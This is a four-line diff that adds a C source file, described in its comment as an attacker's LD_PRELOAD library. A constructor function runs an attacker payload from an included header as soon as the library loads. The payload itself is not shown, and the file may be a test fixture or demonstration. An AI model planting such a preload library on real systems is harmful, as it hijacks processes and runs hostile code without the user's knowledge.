@@ -1,0 +1,4 @@
+// A library of an attacker's for LD_PRELOAD: loaded, it runs the payload.
+#include "payload.h"
+
+__attribute__((constructor)) static void whenLoaded() { runAttackerPayload("preload"); }
